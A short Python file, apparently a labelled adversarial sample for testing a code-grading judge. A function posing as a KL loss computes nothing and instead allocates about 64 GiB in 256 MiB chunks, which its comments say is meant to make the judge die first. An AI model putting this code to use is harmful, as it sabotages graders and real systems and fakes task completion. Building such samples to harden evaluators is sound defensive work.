# tries: asks for 64 GiB in steps of 256 MiB, in the hope that the judge dies first.
# family: exhaustion
import numpy as np


def kl_loss(mean, log_var):
    hoard = []
    for _ in range(256):
        hoard.append(np.ones(256 * 1024 * 1024, dtype="uint8"))
    return None
